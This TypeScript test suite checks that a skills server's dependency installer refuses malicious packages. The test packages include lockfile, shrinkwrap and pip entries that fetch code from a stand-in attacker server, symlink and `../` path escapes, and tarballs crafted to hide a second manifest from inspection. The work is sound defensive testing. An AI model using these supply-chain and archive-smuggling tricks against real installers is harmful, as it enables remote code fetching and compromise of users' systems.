/**
 * Attacks on skill environments: what a skill's declarations make the root server install, and what a built
 * environment points at. Each is judged by canaries the test planted: the test's own loopback HTTP listeners (the
 * operator's npm registry, and an attacker's), a token only edited code prints, the links a built environment holds.
 * Every package is built by the test (`npm pack` of a folder); nothing is fetched from a real registry.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import { dirname, isAbsolute, join, normalize, relative } from 'node:path';
import { describe } from 'vitest';
import { SkillsError } from '../../src/errors.js';
import { craftTarball, npmPack, paxRecord, type TarEntry } from '../helpers/build-packages.js';
import { canaryToken } from './harness/host.js';
import { blockedIf, breach, FORCED, securitySuite, type CaseContext } from './harness/security-case.js';
import { CLI, forcedPrefix } from './harness/server-under-test.js';

const { securityCase, securityControl } = securitySuite();

interface Http {
  port: number;
  url: string;
  /** Paths requested, in order. */
  requests: string[];
  close(): Promise<void>;
}

/** A loopback HTTP listener serving `files` by path (404 otherwise), counting every request. */
async function httpListener(files: Record<string, Buffer> = {}): Promise<Http> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(req.url ?? '');
    const body = files[req.url ?? ''];
    res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/octet-stream' });
    res.end(body);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const addr = server.address();
  const port = typeof addr === 'object' && addr !== null ? addr.port : 0;
  return {
    port,
    url: `http://127.0.0.1:${port}/`,
    requests,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

interface Cli {
  code: number;
  out: string;
}

/** The built binary, asynchronously (the test's listeners must keep answering); forced mode hides bwrap. */
function cli(args: string[], env: Record<string, string>): Promise<Cli> {
  const [file, ...pre] = [...forcedPrefix(), process.execPath, CLI];
  return new Promise((resolve) => {
    execFile(
      file,
      [...pre, ...args],
      {
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/nonexistent', ...env },
        timeout: 120_000,
        maxBuffer: 4 * 1024 * 1024,
      },
      (err, stdout, stderr) =>
        resolve({ code: err === null ? 0 : Number(err.code ?? 1), out: `${stdout}${stderr}` }),
    );
  });
}

/** In forced mode a build ends in SANDBOX_DENIED: the harness records that as the case's outcome. */
function deniedWhenForced(r: Cli): void {
  if (FORCED && /SANDBOX_DENIED|no OS sandbox|sandbox.*(unavailable|denied)/i.test(r.out))
    throw new SkillsError('SANDBOX_DENIED', 'install refused: no sandbox');
}

interface World {
  root: string;
  skills: string;
  audit: string;
  config: string;
  envsDir: string;
  /** The operator's npm registry: the test's listener. */
  registry: Http;
  /** Somewhere else: another listener of the test's, standing in for an attacker's server. */
  attacker: Http;
  env: Record<string, string>;
  tarball: Buffer;
  integrity: string;
}

const integrityOf = (b: Buffer) => `sha512-${createHash('sha512').update(b).digest('base64')}`;

async function world(ctx: CaseContext): Promise<World> {
  const root = await ctx.h.dirs.make('skills-mcp-sec-env-', 0o755);
  const src = join(root, 'tiny-src');
  mkdirSync(src);
  writeFileSync(
    join(src, 'package.json'),
    JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js' }),
  );
  writeFileSync(join(src, 'index.js'), "exports.value = 'from the registry';\n");
  const tarball = readFileSync(npmPack(src, join(root, 'packed')));
  const registry = await httpListener({ '/tiny/-/tiny-1.0.0.tgz': tarball });
  const attacker = await httpListener({ '/attacker/tiny-1.0.0.tgz': tarball });
  ctx.defer(() => registry.close());
  ctx.defer(() => attacker.close());
  const config = join(root, 'skills-mcp.yaml');
  writeFileSync(config, 'approval:\n  mode: allow\n  fallback: rules-only\n');
  return {
    root,
    skills: join(root, 'skills'),
    audit: join(root, 'state', 'audit.db'),
    config,
    envsDir: join(root, 'state', 'envs'),
    registry,
    attacker,
    env: { npm_config_registry: registry.url, npm_config_update_notifier: 'false' },
    tarball,
    integrity: integrityOf(tarball),
  };
}

/** A Node skill: SKILL.md, scripts/main.js printing `require('tiny').value`, and the given files. */
function nodeSkill(skillsDir: string, name: string, files: Record<string, string>): string {
  const dir = join(skillsDir, name);
  mkdirSync(join(dir, 'scripts'), { recursive: true });
  writeFileSync(
    join(dir, 'SKILL.md'),
    `---\nname: ${name}\ndescription: Security case ${name}.\n---\n\nTest.\n`,
  );
  writeFileSync(
    join(dir, 'scripts', 'main.js'),
    "console.log(JSON.stringify({ value: require('tiny').value }));\n",
  );
  for (const [rel, body] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), body);
  }
  return dir;
}

const lockWith = (tiny: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({
    name: 's',
    lockfileVersion: 3,
    requires: true,
    packages: { '': { name: 's', dependencies: { tiny: '1.0.0' } }, 'node_modules/tiny': tiny, ...extra },
  });
const PKG = JSON.stringify({ name: 's', private: true, dependencies: { tiny: '1.0.0' } });

const depsInstall = (w: World, ...skills: string[]) =>
  cli(['deps', 'install', ...skills, '--skills', w.skills, '--audit', w.audit, '--config', w.config], w.env);
const depsList = (w: World) =>
  cli(['deps', 'list', '--skills', w.skills, '--audit', w.audit, '--config', w.config], w.env);
const run = (w: World, skill: string, more: string[] = []) =>
  cli(
    [
      'run',
      skill,
      'scripts/main.js',
      '--skills',
      w.skills,
      '--audit',
      w.audit,
      '--config',
      w.config,
      ...more,
    ],
    w.env,
  );

/** Links in built environments whose target, resolved lexically, leaves the environment (never followed). */
function linksLeaving(envsDir: string): string[] {
  const out: string[] = [];
  let envs: string[];
  try {
    envs = readdirSync(envsDir).filter((n) => /^[0-9a-f]{64}$/.test(n));
  } catch {
    return out;
  }
  for (const id of envs) {
    const top = join(envsDir, id);
    const walk = (p: string) => {
      const st = lstatSync(p);
      if (st.isSymbolicLink()) {
        const t = readlinkSync(p);
        const rel = relative(top, normalize(join(dirname(p), t)));
        if (isAbsolute(t) || rel.startsWith('..')) out.push(`${relative(top, p)} -> ${t}`);
      } else if (st.isDirectory()) for (const e of readdirSync(p)) walk(join(p, e));
    };
    walk(top);
  }
  return out;
}

/** A refusal names what it refuses (`needle`) and nothing was installed or fetched from the attacker. */
function refusedBeforeFetch(w: World, r: Cli, needle: RegExp): { ok: boolean; note: string } {
  const tail = r.out.trim().split('\n').slice(-3).join(' | ').slice(0, 300);
  const ok = r.code !== 0 && needle.test(r.out) && w.attacker.requests.length === 0;
  return { ok, note: `exit ${r.code}; attacker listener: ${w.attacker.requests.length} requests; ${tail}` };
}

describe('skill environments', () => {
  securityControl(
    {
      id: 'env-control-registry',
      category: 'install',
      title: 'a package-lock.json resolved at the operator’s npm registry installs and runs',
    },
    async (ctx) => {
      const w = await world(ctx);
      nodeSkill(w.skills, 'locked', {
        'package.json': PKG,
        'package-lock.json': lockWith({
          version: '1.0.0',
          resolved: `${w.registry.url}tiny/-/tiny-1.0.0.tgz`,
          integrity: w.integrity,
        }),
      });
      const list = await depsList(w);
      const install = await depsInstall(w, 'locked');
      deniedWhenForced(install);
      const r = await run(w, 'locked');
      const ok =
        install.code === 0 &&
        /"value":\s*"from the registry"/.test(r.out) &&
        w.registry.requests.length > 0 &&
        install.out.includes(`from npm registry ${w.registry.url}`) &&
        list.code === 0;
      if (!ok) throw new Error(`control failed:\n${list.out}\n${install.out}\n${r.out}`);
      return ok;
    },
  );

  securityCase(
    {
      id: 'env-lock-resolved',
      category: 'install',
      title: 'package-lock.json `resolved` at another server: refused before any fetch',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      nodeSkill(w.skills, 'locked', {
        'package.json': PKG,
        'package-lock.json': lockWith({
          version: '1.0.0',
          resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
          integrity: w.integrity,
        }),
      });
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const r = await depsInstall(w, 'locked');
      const v = refusedBeforeFetch(w, r, /node_modules\/tiny.*not the operator’s npm registry/);
      return blockedIf(v.ok, v.note);
    },
  );

  securityCase(
    {
      id: 'env-lock-git',
      category: 'install',
      title: 'package-lock.json git and tarball-URL entries: refused before any fetch',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const notes: string[] = [];
      let ok = true;
      for (const resolved of [
        `git+http://127.0.0.1:${w.attacker.port}/tiny.git#0123456789abcdef0123456789abcdef01234567`,
        `http://127.0.0.1:${w.attacker.port}/tiny/-/tiny-1.0.0.tgz`,
      ]) {
        nodeSkill(w.skills, 'locked', {
          'package.json': PKG,
          'package-lock.json': lockWith({ version: '1.0.0', resolved }),
        });
        const r = await depsInstall(w, 'locked');
        const v = refusedBeforeFetch(w, r, /node_modules\/tiny.*not the operator’s npm registry/);
        ok &&= v.ok;
        notes.push(v.note);
      }
      return blockedIf(ok, notes.join(' || '));
    },
  );

  securityCase(
    {
      id: 'env-lock-link',
      category: 'install',
      title: 'package-lock.json `link: true` to a folder outside: refused; no environment links out',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      const outside = join(w.root, 'outside', 'tiny');
      mkdirSync(outside, { recursive: true });
      writeFileSync(join(outside, 'package.json'), JSON.stringify({ name: 'tiny', version: '1.0.0' }));
      writeFileSync(join(outside, 'index.js'), `exports.value = '${canaryToken()}';\n`);
      const dir = nodeSkill(w.skills, 'linked', { 'package.json': PKG });
      const target = relative(dir, outside);
      writeFileSync(
        join(dir, 'package-lock.json'),
        lockWith({ resolved: target, link: true }, { [target]: { name: 'tiny', version: '1.0.0' } }),
      );
      ctx.untouched(
        'no built environment holds a link leaving it',
        () => linksLeaving(w.envsDir).length === 0,
      );
      const r = await depsInstall(w, 'linked');
      const v = refusedBeforeFetch(w, r, /node_modules\/tiny.*link/);
      return blockedIf(v.ok, `${v.note}; links out: ${linksLeaving(w.envsDir).join(', ') || 'none'}`);
    },
  );

  securityCase(
    {
      id: 'env-file-nested-url',
      category: 'install',
      title: 'a vendored `file:` folder whose own package.json depends on a URL: refused before any fetch',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      nodeSkill(w.skills, 'nested', {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:vendor/tiny' },
        }),
        'vendor/tiny/package.json': JSON.stringify({
          name: 'tiny',
          version: '1.0.0',
          dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
        }),
        'vendor/tiny/index.js': "exports.value = 'vendored';\n",
      });
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const r = await depsInstall(w, 'nested');
      const v = refusedBeforeFetch(w, r, /vendor\/tiny\/package\.json.*evil/);
      return blockedIf(v.ok, v.note);
    },
  );

  securityCase(
    {
      id: 'env-file-outside',
      category: 'install',
      title: 'a `file:` dependency outside the skill folder (`../`, a link to a host folder): refused',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      const outside = join(w.root, 'outside', 'tiny');
      mkdirSync(outside, { recursive: true });
      writeFileSync(join(outside, 'package.json'), JSON.stringify({ name: 'tiny', version: '1.0.0' }));
      writeFileSync(join(outside, 'index.js'), `exports.value = '${canaryToken()}';\n`);
      nodeSkill(w.skills, 'up', {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:../../outside/tiny' },
        }),
      });
      const linked = nodeSkill(w.skills, 'linked', {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:vendor/tiny' },
        }),
      });
      mkdirSync(join(linked, 'vendor'));
      symlinkSync(outside, join(linked, 'vendor', 'tiny'));
      ctx.untouched('nothing was built', () => linksLeaving(w.envsDir).length === 0);
      const up = await depsInstall(w, 'up');
      const link = await depsInstall(w, 'linked');
      const ok =
        up.code !== 0 &&
        /file:\.\.\/\.\.\/outside\/tiny/.test(up.out) &&
        link.code !== 0 &&
        /file:vendor\/tiny.*leaves the skill folder/.test(link.out);
      return blockedIf(
        ok,
        `exit ${up.code} / ${link.code}: ${up.out.trim().slice(-160)} | ${link.out.trim().slice(-160)}`,
      );
    },
  );

  securityCase(
    {
      id: 'env-file-shared-edit',
      category: 'install',
      title:
        'two skills share a vendored `file:` folder; one edits it after approval: the other never runs the edit',
    },
    async (ctx) => {
      const w = await world(ctx);
      // As reported: the skills folder inside the project the runs may read (the workspace).
      const project = join(w.root, 'proj');
      const skills = join(project, '.claude', 'skills');
      const shared = {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:vendor/tiny' },
        }),
        'vendor/tiny/package.json': JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js' }),
        'vendor/tiny/index.js': "exports.value = 'reviewed';\n",
      };
      const a = nodeSkill(skills, 'skill-a', shared);
      nodeSkill(skills, 'skill-b', shared);
      const sw = { ...w, skills };
      const ws = ['--workspace', project];
      // As reported: skill-b is allowed by a rule (reading a workspace asks under `mode: allow` alone), never re-asked.
      writeFileSync(
        w.config,
        'approval:\n  mode: allow\n  fallback: rules-only\n  rules:\n    - skill: skill-b\n      action: allow\n',
      );
      const installA = await depsInstall(sw, 'skill-a');
      deniedWhenForced(installA);
      const installB = await depsInstall(sw, 'skill-b');
      const before = await run(sw, 'skill-b', ws);
      if (!/"value":\s*"reviewed"/.test(before.out))
        throw new Error(
          `skill-b did not run with its dependency:\n${installA.out}\n${installB.out}\n${before.out}`,
        );
      const token = canaryToken();
      writeFileSync(join(a, 'vendor', 'tiny', 'index.js'), `exports.value = '${token}';\n`);
      const after = await run(sw, 'skill-b', ws);
      const list = await depsList(sw);
      const links = linksLeaving(w.envsDir);
      if (after.out.includes(token))
        return breach(`skill-b ran skill-a’s edited code; links out: ${links.join(', ')}`);
      const aMissing = /^skill-a {2}[0-9a-f]{12} {2}missing/m.test(list.out);
      const bBuilt = /^skill-b {2}[0-9a-f]{12} {2}built/m.test(list.out);
      const ranReviewed = /"value":\s*"reviewed"/.test(after.out);
      return blockedIf(
        links.length === 0 && aMissing && bBuilt && ranReviewed,
        `skill-b ran its reviewed copy: ${ranReviewed}; deps list: skill-a missing ${aMissing}, skill-b built ${bBuilt}; links out: ${links.join(', ') || 'none'}`,
      );
    },
  );

  securityCase(
    {
      id: 'env-pip-options',
      category: 'install',
      title:
        'requirements.txt `--index-url`, `-i`, `--find-links`, `-f`, `-r`, `-c`, `-e`, URL and path lines: refused',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const u = w.attacker.url;
      const lines = [
        `--index-url ${u}`,
        `-i ${u}`,
        `--extra-index-url ${u}`,
        `--find-links ${u}`,
        `-f ${u}`,
        `--trusted-host 127.0.0.1`,
        `tinypkg --index-url ${u}`,
        '-r other.txt',
        '-c other.txt',
        '-e .',
        `tinypkg @ ${u}tinypkg-1.0-py3-none-any.whl`,
        `${u}tinypkg-1.0-py3-none-any.whl`,
        './vendor/tinypkg',
      ];
      const dir = join(w.skills, 'pip');
      mkdirSync(join(dir, 'scripts'), { recursive: true });
      writeFileSync(join(dir, 'SKILL.md'), '---\nname: pip\ndescription: Security case pip.\n---\n\nTest.\n');
      writeFileSync(join(dir, 'other.txt'), 'tinypkg\n');
      const accepted: string[] = [];
      for (const line of lines) {
        writeFileSync(join(dir, 'requirements.txt'), `tinypkg==1.0\n${line}\n`);
        const r = await depsInstall(w, 'pip');
        if (r.code === 0 || !/requirements\.txt: .*(pip option|URL or path)/.test(r.out)) accepted.push(line);
      }
      return blockedIf(
        accepted.length === 0,
        `${lines.length} lines refused (ENV_SPEC_INVALID); accepted: ${accepted.join(', ') || 'none'}; attacker listener: ${w.attacker.requests.length} requests`,
      );
    },
  );
  securityCase(
    {
      id: 'env-file-tarball-hidden-manifest',
      category: 'install',
      title:
        'a vendored tarball hiding a second package.json from the check (type 7, duplicate pax path, GNU prefix, lone zero block) that depends on a URL: nothing fetched',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const good = JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js' });
      const evil = JSON.stringify({
        name: 'tiny',
        version: '1.0.0',
        main: 'index.js',
        dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
      });
      const index: TarEntry = { name: 'package/index.js', data: "exports.value = 'vendored';\n" };
      const manifest: TarEntry = { name: 'package/package.json', data: good };
      const variants: Record<string, (TarEntry | null)[]> = {
        'contiguous file': [manifest, index, { ...manifest, data: evil, type: '7' }],
        'duplicate pax path': [
          manifest,
          index,
          {
            name: 'PaxHeader',
            type: 'x',
            data: paxRecord('path', 'package/README') + paxRecord('path', 'package/package.json'),
          },
          { name: 'package/README', data: evil },
        ],
        'GNU header with a prefix': [
          manifest,
          index,
          { ...manifest, data: evil, magic: 'ustar  \0', prefix: 'x' },
        ],
        'lone zero block': [manifest, index, null, { ...manifest, data: evil }],
      };
      const notes: string[] = [];
      let ok = true;
      for (const [what, entries] of Object.entries(variants)) {
        const name = `t${notes.length}`;
        const dir = nodeSkill(w.skills, name, {
          'package.json': JSON.stringify({
            name: 's',
            private: true,
            dependencies: { tiny: 'file:vendor/tiny.tgz' },
          }),
        });
        mkdirSync(join(dir, 'vendor'));
        writeFileSync(join(dir, 'vendor', 'tiny.tgz'), craftTarball(entries));
        const r = await depsInstall(w, name);
        deniedWhenForced(r);
        const fetched = w.attacker.requests.length;
        ok &&= fetched === 0 && r.code !== 0 && /vendor\/tiny\.tgz/.test(r.out);
        notes.push(
          `${what}: exit ${r.code}, attacker ${fetched} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
        );
      }
      if (w.attacker.requests.length > 0) return breach(notes.join(' || '));
      return blockedIf(ok, notes.join(' || '));
    },
  );
  securityCase(
    {
      id: 'env-lock-package-json-fields',
      category: 'install',
      title:
        'with a package-lock.json, package.json optional, dev or peer dependencies, overrides or workspaces naming another server: nothing fetched',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const url = `${w.attacker.url}attacker/tiny-1.0.0.tgz`;
      const lock = lockWith({
        version: '1.0.0',
        resolved: `${w.registry.url}tiny/-/tiny-1.0.0.tgz`,
        integrity: w.integrity,
      });
      const variants: Record<string, Record<string, unknown>> = {
        optionalDependencies: { optionalDependencies: { evil: url } },
        devDependencies: { devDependencies: { evil: url } },
        peerDependencies: { peerDependencies: { evil: url } },
        overrides: { overrides: { tiny: url } },
        workspaces: { workspaces: ['../../../outside'] },
      };
      const notes: string[] = [];
      let ok = true;
      for (const [what, extra] of Object.entries(variants)) {
        const name = `f${notes.length}`;
        nodeSkill(w.skills, name, {
          'package.json': JSON.stringify({ ...JSON.parse(PKG), ...extra }),
          'package-lock.json': lock,
        });
        const before = w.attacker.requests.length;
        const r = await depsInstall(w, name);
        deniedWhenForced(r);
        const fetched = w.attacker.requests.length - before;
        ok &&= fetched === 0 && r.code !== 0 && r.out.includes(what);
        notes.push(
          `${what}: exit ${r.code}, attacker ${fetched} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
        );
      }
      if (w.attacker.requests.length > 0) return breach(notes.join(' || '));
      return blockedIf(ok, notes.join(' || '));
    },
  );
  securityCase(
    {
      id: 'env-lock-in-bundle',
      category: 'install',
      title:
        'package-lock.json entries marked `inBundle` (no parent ships them, so npm fetches them) resolved at another server: refused before any fetch',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      nodeSkill(w.skills, 'bundled', {
        'package.json': PKG,
        'package-lock.json': lockWith({
          version: '1.0.0',
          inBundle: true,
          resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
          integrity: w.integrity,
        }),
      });
      const r = await depsInstall(w, 'bundled');
      const v = refusedBeforeFetch(w, r, /node_modules\/tiny.*not the operator’s npm registry/);
      return blockedIf(v.ok, v.note);
    },
  );
  securityCase(
    {
      id: 'env-file-tarball-bundled',
      category: 'install',
      title:
        'a vendored tarball bundling a package (bundleDependencies + package/node_modules) whose own package.json depends on a URL: nothing fetched (npm leaves bundled packages’ dependencies alone)',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const dir = nodeSkill(w.skills, 'bundling', {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:vendor/tiny.tgz' },
        }),
      });
      mkdirSync(join(dir, 'vendor'));
      writeFileSync(
        join(dir, 'vendor', 'tiny.tgz'),
        craftTarball([
          {
            name: 'package/package.json',
            data: JSON.stringify({
              name: 'tiny',
              version: '1.0.0',
              main: 'index.js',
              dependencies: { inner: '1.0.0' },
              bundleDependencies: ['inner'],
            }),
          },
          { name: 'package/index.js', data: "exports.value = 'vendored';\n" },
          {
            name: 'package/node_modules/inner/package.json',
            data: JSON.stringify({
              name: 'inner',
              version: '1.0.0',
              dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
            }),
          },
        ]),
      );
      const r = await depsInstall(w, 'bundling');
      deniedWhenForced(r);
      return blockedIf(
        w.attacker.requests.length === 0,
        `exit ${r.code}; attacker listener: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`,
      );
    },
  );
  securityCase(
    {
      id: 'env-file-shrinkwrap',
      category: 'install',
      title:
        'a vendored package (folder or tarball) holding an npm-shrinkwrap.json whose entries resolve at another server: nothing fetched',
      preflight: true,
    },
    async (ctx) => {
      const w = await world(ctx);
      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
      const manifest = JSON.stringify({
        name: 'tiny',
        version: '1.0.0',
        main: 'index.js',
        dependencies: { inner: '1.0.0' },
      });
      const shrinkwrap = JSON.stringify({
        name: 'tiny',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'tiny', version: '1.0.0', dependencies: { inner: '1.0.0' } },
          'node_modules/inner': {
            version: '1.0.0',
            resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
            integrity: w.integrity,
          },
        },
      });
      const index = "exports.value = 'vendored';\n";
      nodeSkill(w.skills, 'sw-folder', {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:vendor/tiny' },
        }),
        'vendor/tiny/package.json': manifest,
        'vendor/tiny/npm-shrinkwrap.json': shrinkwrap,
        'vendor/tiny/index.js': index,
      });
      const dir = nodeSkill(w.skills, 'sw-tarball', {
        'package.json': JSON.stringify({
          name: 's',
          private: true,
          dependencies: { tiny: 'file:vendor/tiny.tgz' },
        }),
      });
      mkdirSync(join(dir, 'vendor'));
      writeFileSync(
        join(dir, 'vendor', 'tiny.tgz'),
        craftTarball([
          { name: 'package/package.json', data: manifest },
          { name: 'package/npm-shrinkwrap.json', data: shrinkwrap },
          { name: 'package/index.js', data: index },
        ]),
      );
      const notes: string[] = [];
      for (const name of ['sw-folder', 'sw-tarball']) {
        const before = w.attacker.requests.length;
        const r = await depsInstall(w, name);
        deniedWhenForced(r);
        notes.push(
          `${name}: exit ${r.code}, attacker ${w.attacker.requests.length - before} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
        );
      }
      return blockedIf(w.attacker.requests.length === 0, notes.join(' || '));
    },
  );
  for (const how of ['resolved', 'version'] as const)
    securityCase(
      {
        id: `env-registry-shrinkwrap-${how}`,
        category: 'install',
        title: `a package of the operator’s registry shipping an npm-shrinkwrap.json whose entry ${how === 'resolved' ? 'resolves at another server' : 'names a URL as its version'}: nothing fetched from it, no environment kept`,
      },
      async (ctx) => {
        const notes: string[] = [];
        let kept = false;
        let fetched = 0;
        const w = await world(ctx);
        // Another host name than the registry's (127.0.0.1), still the test's own loopback listener.
        const elsewhere = `http://localhost:${w.attacker.port}/attacker/tiny-1.0.0.tgz`;
        const src = join(w.root, 'wrapped-src');
        mkdirSync(src);
        writeFileSync(
          join(src, 'package.json'),
          JSON.stringify({ name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } }),
        );
        writeFileSync(
          join(src, 'npm-shrinkwrap.json'),
          JSON.stringify({
            name: 'wrapped',
            version: '1.0.0',
            lockfileVersion: 3,
            requires: true,
            packages: {
              '': { name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } },
              'node_modules/tiny':
                how === 'resolved'
                  ? {
                      version: '1.0.0',
                      resolved: elsewhere,
                      integrity: w.integrity,
                    }
                  : { version: elsewhere },
            },
          }),
        );
        writeFileSync(join(src, 'index.js'), "module.exports = require('tiny');\n");
        const wrapped = readFileSync(npmPack(src, join(w.root, 'wrapped-packed')));
        const files: Record<string, Buffer> = {};
        const registry = await httpListener(files);
        ctx.defer(() => registry.close());
        const version = (name: string, tgz: Buffer, more: Record<string, unknown>) =>
          Buffer.from(
            JSON.stringify({
              name,
              'dist-tags': { latest: '1.0.0' },
              versions: {
                '1.0.0': {
                  name,
                  version: '1.0.0',
                  dist: {
                    tarball: `${registry.url}${name}/-/${name}-1.0.0.tgz`,
                    integrity: integrityOf(tgz),
                  },
                  ...more,
                },
              },
            }),
          );
        Object.assign(files, {
          '/wrapped': version('wrapped', wrapped, { dependencies: { tiny: '1.0.0' }, _hasShrinkwrap: true }),
          '/wrapped/-/wrapped-1.0.0.tgz': wrapped,
          '/tiny': version('tiny', w.tarball, {}),
          '/tiny/-/tiny-1.0.0.tgz': w.tarball,
        });
        const rw = { ...w, registry, env: { ...w.env, npm_config_registry: registry.url } };
        nodeSkill(w.skills, 'wrapped-user', {
          'package.json': JSON.stringify({ name: 's', private: true, dependencies: { wrapped: '1.0.0' } }),
        });
        const r = await depsInstall(rw, 'wrapped-user');
        deniedWhenForced(r);
        const built = readdirSync(w.envsDir).filter((n) => /^[0-9a-f]{64}$/.test(n));
        const note = `exit ${r.code}; environments built: ${built.length}; attacker: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`;
        // Refused by the post-install check, or failed because npm could not reach the other server: no environment.
        kept ||= built.length > 0 || r.code === 0;
        fetched += w.attacker.requests.length;
        notes.push(`${how}: ${note}`);
        if (kept) return breach(notes.join(' || '));
        return blockedIf(fetched === 0, notes.join(' || '));
      },
    );
});
